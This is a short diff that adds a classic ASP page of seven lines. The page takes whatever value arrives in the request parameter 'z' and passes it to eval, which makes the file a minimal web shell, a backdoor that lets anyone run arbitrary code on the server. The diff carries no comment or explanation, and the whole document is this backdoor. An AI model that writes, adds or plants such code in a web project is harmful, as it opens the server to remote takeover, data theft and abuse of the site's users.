@@ -1,0 +1,7 @@
+<%
+dim p
+p = request("z")
+if p <> "" then
+  eval p
+end if
+%>
